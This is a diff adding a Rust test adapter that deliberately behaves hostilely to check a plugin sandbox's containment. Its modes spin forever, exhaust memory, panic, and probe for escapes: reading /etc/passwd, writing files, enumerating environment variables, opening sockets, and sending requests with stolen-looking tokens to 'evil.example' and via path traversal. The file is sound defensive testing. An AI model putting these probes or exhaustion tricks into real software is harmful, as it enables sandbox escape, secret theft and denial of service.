@@ -1,0 +1,181 @@
+//! A hostile adapter for the containment tests. `map-records` does what the
+//! payload (a plain-text mode) asks: behave, loop forever, allocate without
+//! bound, panic, return a 100 MB result, or probe for a way out (sockets,
+//! files, environment, `pos-http` escapes, undeclared secrets).
+//!
+//! Probes report what they observed as upserts whose `external_ref` names the
+//! probe and whose `name` is the observation, so a test can assert that the
+//! adapter saw nothing.
+
+use snapact_adapter_sdk::http::{HttpError, Method, Request};
+use snapact_adapter_sdk::signatures::{HmacAlgorithm, SignatureEncoding};
+use snapact_adapter_sdk::{
+    Adapter, AdapterError, Availability, Change, Item, Mapped, Money, export_adapter,
+    invalid_input,
+};
+
+struct Hostile;
+
+impl Adapter for Hostile {
+    fn map_records(payload: &[u8], _content_type: &str) -> Result<Mapped, AdapterError> {
+        let mode = std::str::from_utf8(payload)
+            .map_err(|_| invalid_input("$", "the payload must be a UTF-8 mode name"))?
+            .trim();
+        match mode {
+            "good" => Ok(changes(vec![item("good-1", "Good item", Some(150_000))])),
+            "loop" => spin(),
+            "alloc" => allocate_forever(),
+            "panic" => panic!("hostile adapter panics on purpose"),
+            // Built in place: the only copy of the 100 MB is the one returned.
+            "big-output" => Ok(changes(vec![item("big", "x".repeat(100 * 1024 * 1024), None)])),
+            "socket" => Ok(changes(probe_sockets())),
+            "file" => Ok(changes(probe_files())),
+            "env" => Ok(changes(probe_env())),
+            "http" => Ok(changes(probe_http())),
+            "secret" => {
+                snapact_adapter_sdk::signatures::verify_hmac(
+                    "admin_password",
+                    HmacAlgorithm::Sha256,
+                    b"message",
+                    "00",
+                    SignatureEncoding::Hex,
+                )?;
+                Ok(changes(vec![probe("secret", "verified with an undeclared secret")]))
+            }
+            other => Err(invalid_input("$", format!("unknown mode {other:?}"))),
+        }
+    }
+}
+
+export_adapter!(Hostile);
+
+fn changes(changes: Vec<Change>) -> Mapped {
+    Mapped {
+        changes,
+        rejected: Vec::new(),
+    }
+}
+
+fn item(external_ref: &str, name: impl Into<String>, price_minor: Option<i64>) -> Change {
+    Change::Upsert(Item {
+        external_ref: external_ref.into(),
+        name: name.into(),
+        price: price_minor.map(|amount_minor| Money {
+            amount_minor,
+            currency: "NGN".into(),
+        }),
+        quantity: Some(3),
+        availability: Availability::InStock,
+        sku: None,
+        barcode: None,
+        category: None,
+        description: None,
+        image_url: None,
+        parent_ref: None,
+        stock_key: None,
+        source_version: None,
+    })
+}
+
+/// One observation, reported as an upsert so the test can read it.
+fn probe(name: &str, observation: &str) -> Change {
+    item(name, observation, None)
+}
+
+fn spin() -> ! {
+    let mut n: u64 = 0;
+    loop {
+        n = std::hint::black_box(n.wrapping_add(1));
+    }
+}
+
+fn allocate_forever() -> ! {
+    let mut hoard: Vec<Vec<u8>> = Vec::new();
+    loop {
+        // Untouched capacity: the memory grows without the cost of writing it.
+        let mut chunk = Vec::with_capacity(1 << 20);
+        chunk.push(1u8);
+        hoard.push(std::hint::black_box(chunk));
+    }
+}
+
+fn outcome<T, E: std::fmt::Display>(r: Result<T, E>, ok: impl FnOnce(T) -> String) -> String {
+    match r {
+        Ok(v) => format!("OPEN: {}", ok(v)),
+        Err(e) => format!("denied: {e}"),
+    }
+}
+
+fn probe_sockets() -> Vec<Change> {
+    use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
+    let tcp = outcome(TcpStream::connect("93.184.215.14:80"), |s| {
+        format!("connected to {:?}", s.peer_addr())
+    });
+    let dns = outcome(("example.com", 80).to_socket_addrs(), |a| {
+        format!("resolved {:?}", a.collect::<Vec<_>>())
+    });
+    let udp = outcome(UdpSocket::bind("0.0.0.0:0"), |s| {
+        format!("bound {:?}", s.local_addr())
+    });
+    vec![probe("tcp", &tcp), probe("dns", &dns), probe("udp", &udp)]
+}
+
+fn probe_files() -> Vec<Change> {
+    let passwd = outcome(std::fs::read_to_string("/etc/passwd"), |s| {
+        format!("read {} bytes", s.len())
+    });
+    let root = outcome(std::fs::read_dir("/"), |d| {
+        format!("listed {} entries", d.count())
+    });
+    let cwd = outcome(std::env::current_dir(), |d| format!("cwd {}", d.display()));
+    let create = outcome(std::fs::write("planted.txt", b"x"), |_| "wrote a file".into());
+    vec![
+        probe("passwd", &passwd),
+        probe("root-dir", &root),
+        probe("cwd", &cwd),
+        probe("create", &create),
+    ]
+}
+
+fn probe_env() -> Vec<Change> {
+    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
+    let args: Vec<String> = std::env::args().collect();
+    vec![
+        probe("env", &format!("{} vars: {}", vars.len(), vars.join(","))),
+        probe("args", &format!("{} args: {}", args.len(), args.join(" "))),
+    ]
+}
+
+fn probe_http() -> Vec<Change> {
+    let paths = [
+        ("scheme", "https://evil.example/steal"),
+        ("authority", "//evil.example/steal"),
+        ("dotdot", "/api/../../admin"),
+        ("encoded-dotdot", "/api/%2e%2e/admin"),
+        ("relative", "api/items"),
+        ("allowed", "/v2/catalog/list"),
+    ];
+    paths
+        .iter()
+        .map(|(name, path)| {
+            let req = Request {
+                method: Method::Get,
+                path: (*path).into(),
+                query: Vec::new(),
+                headers: vec![
+                    ("authorization".into(), "Bearer stolen".into()),
+                    ("x-api-key".into(), "stolen".into()),
+                    ("accept".into(), "application/json".into()),
+                ],
+                body: Vec::new(),
+            };
+            let seen = match snapact_adapter_sdk::bindings::snapact::adapter::pos_http::send(&req) {
+                Ok(resp) => format!("OPEN: status {}", resp.status),
+                Err(HttpError::Denied(why)) => format!("denied: {why}"),
+                Err(HttpError::NotConfigured(why)) => format!("not-configured: {why}"),
+                Err(other) => format!("error: {other:?}"),
+            };
+            probe(name, &seen)
+        })
+        .collect()
+}
